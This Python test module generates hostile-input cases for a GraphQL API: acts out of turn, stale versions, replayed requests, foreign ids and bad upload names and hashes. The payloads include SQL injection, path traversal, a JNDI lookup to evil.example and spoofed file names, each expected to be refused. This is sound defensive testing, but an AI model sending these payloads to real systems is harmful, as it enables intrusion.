"""What is tried on records that are there: acts out of turn, old versions, requests sent twice, ids of others."""

from collections.abc import Iterator
from typing import Any

from graphql import get_named_type, is_composite_type

from movement.model.entries import State
from movement.model.entry_acts import RULES
from movement.model.inspection_acts import INSPECTION_RULES
from movement.model.inspections import InspectionState
from tests.graphql_api.acting import sees
from tests.hostile.oracle import Case, Expected, nothing, problem, sound
from tests.hostile.place import ABSENT, Province
from tests.hostile.sending import asking
from tests.hostile.shapes import MUTATIONS, Operation


def _given(operation: Operation, **changes: Any) -> dict[str, Any]:
    return {"input": operation.variables["input"] | changes}


def _named(operations: list[Operation]) -> dict[str, Operation]:
    return {operation.name: operation for operation in operations if operation.mutates}


def out_of_turn(operations: list[Operation], here: Province) -> Iterator[Case]:
    """Yield every act in every state that it is not for, by who may do it in its own."""
    acts = _named(operations)
    turns: list[tuple[str, State | InspectionState, Any]] = [
        *((act.value, s, found) for act, r in RULES.items() for s, found in here.entries.items() if s not in r.sources),
        *(
            (act.value, s, found)
            for act, r in INSPECTION_RULES.items()
            for s, found in here.inspections.items()
            if s not in r.sources
        ),
    ]
    for name, state, found in turns:
        operation = acts[name]
        given = _given(operation, id=found.id, version=found.version)
        yield Case(
            name=f"{name} in {state}",
            request=asking(operation.text, given, by=operation.by),
            expected=_too_early(operation.by, state) or problem("ILLEGAL_ACT", "id"),
        )


def _too_early(by: str, state: State | InspectionState) -> Expected | None:
    """Return what they are told who do not see the record yet, or have no part in it."""
    if state is State.DRAFT:
        return None if by == "rpt" else problem("NOT_FOUND", "id")
    if isinstance(state, InspectionState) and not sees(by, state):
        return problem("NOT_FOUND", "id")
    return problem("FORBIDDEN") if state is InspectionState.PLANNED and by == "ins" else None


def stale(operations: list[Operation]) -> Iterator[Case]:
    """Yield every act at a version that is not the record's."""
    for operation in _named(operations).values():
        if "version" in operation.variables["input"]:
            right = operation.variables["input"]["version"]
            for label, version in {
                "before it": right - 1,
                "after it": right + 1,
                "-1": -1,
                "the largest": 2**31 - 1,
                "the smallest": -(2**31),
            }.items():
                yield Case(
                    name=f"{operation.name} at version {label}",
                    request=asking(operation.text, _given(operation, version=version), by=operation.by),
                    expected=problem("CONFLICT", "version"),
                )


def foreign(operations: list[Operation], there: Province) -> Iterator[Case]:
    """Yield ids of another province, of another kind, of nothing and of no shape, wherever an id is taken."""
    others = there.ids()
    strange = {
        "of nothing": ABSENT["e"],
        "of a unit of nothing": ABSENT["t"],
        "empty": "",
        "SQL": "' OR 1=1; --",
        "a path": "../../e0000000000000000",
        "a placeholder": ":v0",
        "a key": "E#e0000000000000000",
        "a NUL": "e00000000000000\0",
        "in capitals": ABSENT["e"].upper(),
        "one letter too long": ABSENT["e"] + "0",
        "of 3,000 letters with marks": "é" * 3_000,
        "full-width": "ｅ" + "０" * 16,
        "a template": "${jndi:ldap://evil.example}",
    } | {f"another province's {kind}": found for kind, found in others.items()}
    for operation in operations:
        for spot in (s for s in operation.spots() if s.kind == "ID"):
            for label, text in strange.items():
                field = str(spot.path[-1])
                expected = _refused(spot.name, field, label) if operation.mutates else nothing(operation.answers)
                request = asking(operation.text, spot.put(text), by=operation.by)
                yield Case(name=f"{spot.name} {label}", request=request, expected=expected)


PLAIN_UPLOADS = {
    f"{act}.input.upload"
    for act in ("submitReport", "reorganiseUnits", "recordImplementationPlan", "confirmImport", "attachDocument")
}
"""Uploads that are no evidence inside anything."""


def _refused(spot: str, field: str, label: str) -> Expected:
    if field == "upload" and spot not in PLAIN_UPLOADS:
        inside = (("outputs", "0") if spot.startswith("reportEntry") else ()) + (spot.split(".")[-2], "0")
        if label == "a NUL":
            return problem("BAD_INPUT", *inside, "upload")
        return problem("NOT_FOUND", *inside, "upload")
    if spot == "submitReturn.input.gaps.units":
        return problem("BAD_INPUT", "gaps", *(("0", "units", "0") if label == "a NUL" else ()))
    if field == "owner":
        unit = label in {"of a unit of nothing", "another province's Unit"}
        return (
            problem("BAD_INPUT", "recommendations", "1", "owner")
            if unit
            else problem("NOT_FOUND", "recommendations", "owner")
        )
    return problem("NOT_FOUND", field)


STAGED = {"reorganiseUnits": 2, "reverseReorganisation": 2, "applyReorganisation": 0, "confirmImport": 5}
"""What writes rows that nobody sees first, and then the one that shows them, or goes on with what is done already."""
ANSWERED: dict[str, dict[str, Any]] = {
    "assignCarrier": {"record": {"__typename": "Entry"}},
    "reorganiseUnits": {"faults": []},
    "confirmImport": {"faults": []},
}
"""What the type of a payload's field does not say."""


def twice(operations: list[Operation], here: Province) -> Iterator[Case]:
    """Yield each act once as it should be, then again, and then another body under the same request id."""
    for operation in _named(operations).values():
        first = asking(operation.text, operation.variables, by=operation.by)
        done = sound({operation.name: _done(operation) | {"problems": []}})
        yield Case(
            name=f"{operation.name} for the first time",
            request=first,
            expected=done,
            writes=STAGED.get(operation.name, 1),
        )
        yield Case(name=f"{operation.name} for the second time", request=first, expected=done)
        given = operation.variables["input"]
        if not (given.keys() - {"id", "requestId"}):
            continue
        yield Case(
            name=f"{operation.name} with another body under the same id",
            request=asking(operation.text, {"input": given | _another(operation, here)}, by=operation.by),
            expected=problem("IDEMPOTENCY_MISMATCH", "requestId"),
        )


def _done(operation: Operation) -> dict[str, Any]:
    payload: Any = get_named_type(MUTATIONS[operation.name].type)
    given = operation.variables["input"]
    known = {"subject": given.get("subject"), "version": given.get("version", 0) + 1}
    named = {n: get_named_type(f.type) for n, f in payload.fields.items() if n != "problems"}
    done = {n: {"__typename": kind.name} if is_composite_type(kind) else known[n] for n, kind in named.items()}
    return done | ANSWERED.get(operation.name, {})


def _another(operation: Operation, here: Province) -> dict[str, Any]:
    given = operation.variables["input"]
    if "version" in given:
        return {"version": given["version"] + 1}
    others = {
        "title": "Khác",
        "name": "Khác.pdf",
        "purpose": "APPRAISAL",
        "role": "AUD",
        "period": "2026-9M",
        "unit": here.town.b_committee.id,
        "upload": here.upload.id,
        "year": 2025,
    }
    return next({name: value} for name, value in others.items() if name in given)


def files(operations: list[Operation]) -> Iterator[Case]:
    """Yield names, types, sizes and hashes of files that are not taken."""
    (ask,) = (o for o in operations if o.name == "requestUpload")
    names = {
        "no ending": "x", "another ending": "x.exe", "two endings": "x.pdf.exe", "only an ending": ".pdf",
        "hidden": ".x.pdf", "only blanks": "   ", "empty": "", "a path": "../../x.pdf", "a Windows path": "C:\\x.pdf",
        "a slash": "a/b.pdf",
        "a drive": "c:x.pdf", "a NUL": "x.pdf\0.exe", "a line break": "x\n.pdf", "a carriage return": "x\r\nX: y.pdf",
        "a tab": "x\ty.pdf", "a quote": 'x".pdf', "an angle": "x<script>.pdf", "a pipe": "x|y.pdf", "a star": "*.pdf",
        "a question mark": "x?.pdf", "a backslash": "x\\y.pdf", "another direction": "x\u202efdp.exe",
        "zero width": "x\u200b.pdf", "a full-width dot": "x．pdf", "a look-alike ending": "x.рdf",
        "an escape": "x\x1b[31m.pdf", "a stream": "x.pdf::$DATA",
    }  # fmt: skip
    for label, name in names.items():
        yield _file(ask, f"a file's name: {label}", {"name": name}, "name")
    yield _file(ask, "a file's name: 201 letters", {"name": "x" * 197 + ".pdf"}, "name", "TOO_LARGE")
    for kind in ("PNG", "JPEG", "WEBP", "DOCX", "XLSX"):
        yield _file(ask, f"a PDF that says it is {kind}", {"type": kind}, "name")
    for purpose in ("EVIDENCE", "IMPORT", "SCORE_SHEET"):
        kind = {"EVIDENCE": "CSV", "IMPORT": "PDF", "SCORE_SHEET": "PNG"}[purpose]
        by = "pcs" if purpose == "SCORE_SHEET" else "rpt"
        yield _file(ask, f"{kind} for {purpose}", {"purpose": purpose, "type": kind}, "type", by=by)
    for label, digest in {
        "empty": "", "short": "ab", "in capitals": "A" * 64, "of other letters": "g" * 64, "too long": "a" * 65,
        "with a line break": "a" * 64 + "\n", "of full-width digits": "１" * 64, "with a prefix": "0x" + "a" * 62,
        "of a path": "../" * 21 + "a",
    }.items():  # fmt: skip
        yield _file(ask, f"a hash {label}", {"sha256": digest}, "sha256")


def _file(ask: Operation, name: str, given: dict[str, Any], at: str, code: str = "BAD_INPUT", by: str = "rpt") -> Case:
    request = asking(ask.text, _given(ask, **given), by=by)
    return Case(name=name, request=request, expected=problem(code, at))
